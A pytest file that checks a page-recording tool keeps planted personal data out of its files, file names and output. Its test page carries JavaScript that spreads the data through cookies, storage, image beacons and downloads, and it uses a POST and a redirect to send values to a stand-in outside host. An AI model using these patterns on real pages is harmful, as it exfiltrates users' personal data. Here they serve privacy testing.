"""No personal data and no secret of a page reaches a file, an output or the name of a file."""

import json
import tempfile
from types import SimpleNamespace
from urllib.parse import quote

import pytest
from live_shop import ITEM, PAGE, live_shop, product_page
from personal_data import PERSONAL_DATA, PERSONAL_NUMBERS, all_spellings, traces_in

TEXTS = [*PERSONAL_DATA.values()]
SPELT = all_spellings(TEXTS)
HOST = "anna-plantedova.ng.invalid"
KNOWN = (
    "name sku brand category id currency stock weight price price_undiscounted code symbol position decimals "
    "decimal_separator thousands_separator language page total taxes variant_id quantity selectedVariantId "
    "email phone first_name lastName address postal city token session url note count"
)
ANYWHERE = """
texts.forEach((text) => {
  const coded = encodeURIComponent(text);
  document.cookie = `${coded.slice(0, 60)}=${coded}`;
  localStorage[text] = sessionStorage[text] = text;
  console.log(text);
  new Image().src = `/${coded}?${coded}#${coded}`;
});
const coded = texts.map(encodeURIComponent);
history.replaceState(texts, "", `?${coded.slice(0, 60).join("&")}#${coded}`);
document.title = name = texts.join();
for (const host of ["", "http://HOST"]) fetch(`${host}/${coded[0]}`, { method: "POST" }).catch(() => {});
alert(texts[0]);
open(`/${coded[0]}`, texts[0]);
const link = document.body.appendChild(document.createElement("a"));
link.download = texts[0];
link.href = URL.createObjectURL(new Blob(texts));
link.click();
reportError(new Error(texts.join()));
Promise.reject(texts.join());
addEventListener("load", () => {
  const slot = document.querySelector(".slot");
  slot.style.fontFamily = texts.map((text) => JSON.stringify(text)).join();
  for (const text of texts) {
    slot.className += " " + text;
    slot.dataset.text = slot.id = text;
  }
  const deliver = (name, param, update) => svcPlugins._deliver(`svc-content-${name}`, [() => ({}), param, update]);
  deliver("after-cart", { event: texts[0], cartData: { items: [fields] } });
  deliver("after-cart", { event: texts, currency: fields, [texts[0]]: fields });
  deliver("after-price-updated", { page: fields }, fields);
});
"""

pytestmark = pytest.mark.usefixtures("processes")


def planting_page():
    """Return a page that has the data in all fields, in their names, and wherever else a page keeps a text."""
    planted = [*TEXTS, *PERSONAL_NUMBERS]
    fields = {
        **dict.fromkeys(KNOWN.split(), planted),
        "variants": [{"id": text, "stock": text} for text in planted],
        "options": [{"title": text} for text in TEXTS],
        "customer": {text: {text: [text]} for text in TEXTS},
    }
    item = {**fields, "name": SPELT, **dict.fromkeys(SPELT, True), "price": 59.9}
    code = ANYWHERE.replace("HOST", HOST)
    script = f"const texts = {json.dumps(TEXTS)}, fields = {json.dumps(fields)};{code}"
    params = {"item": {**ITEM, **item}, "page": {**PAGE, "language": TEXTS}, **dict.fromkeys(TEXTS, 1)}
    html = product_page(params=params, body=f"<input id='note'><script>{script}</script>")
    return html.replace("<article>", "<anna-plantedova>").replace("</article>", "</anna-plantedova>")


@pytest.fixture(scope="module")
def kept_browser():
    """Each visit has a browser of its own, whose profile is gone at its end."""
    return SimpleNamespace(put_in_place=lambda _: None)


@pytest.fixture
def temporary(tmp_path, monkeypatch):
    """The folder for temporary files, so that a test sees what stays there."""
    folder = tmp_path / "temporary"
    folder.mkdir()
    monkeypatch.setenv("TMPDIR", str(folder))
    monkeypatch.setattr(tempfile, "tempdir", None)
    return folder


def written_in(*folders):
    """Return the names and contents of all files in folders, as one text."""
    files = [file for folder in folders for file in folder.rglob("*")]
    contents = (file.read_bytes().decode(errors="replace") if file.is_file() else "" for file in files)
    return "\n".join((*map(str, files), *contents))


def test_table_has_200_kinds_and_its_search_sees_each():
    assert len(set(TEXTS)) == len(PERSONAL_DATA) > 200
    assert traces_in("\n".join(TEXTS)) == [*PERSONAL_DATA]
    assert traces_in("\n".join(quote(text, safe="") for text in TEXTS)) == [*PERSONAL_DATA]
    assert traces_in('{"channel": "planned for 11/2019, length 8"}') == []


def test_record_writes_and_says_nothing_of_a_person(awning, tmp_path, temporary):
    folder, visit = tmp_path / "recorded", tmp_path / "visit.toml"
    with live_shop() as shop:
        address = shop.add("/persons", planting_page())
        address += f"?email={quote(PERSONAL_DATA['e-mail'])}#{quote(TEXTS[0])}"
        shop.add("/leads", f"<script>location = 'http://{HOST}/' + {json.dumps(quote(TEXTS[0]))}</script>")
        step = json.dumps(f'type "#note" "{TEXTS[0]}"')
        visit.write_text(f'[[page]]\nurl = "{address}"\nsteps = [{step}]\n[[page]]\nurl = "/leads"\n')
        arguments = (address, "--allow-private", "--visit", visit, "-o", folder)
        results = [awning("record", *arguments), awning("record", "--replay", folder)]
    said = "".join(result.out + result.err for result in results)
    events = json.loads((folder / "events.json").read_text())
    names = ["after-price", "after-cart", "after-cart", "after-price-updated"]
    assert [event["event"] for event in events] == [f"svc-content-{name}" for name in names], said
    assert (events[0]["item"]["price"], len(events[0]["item"]["name"])) == (59.9, len(SPELT))
    assert "the page leads to another site, another host" in said
    everything = written_in(folder, temporary) + said
    assert traces_in(everything) == []
    assert "plantedova" not in everything.lower()
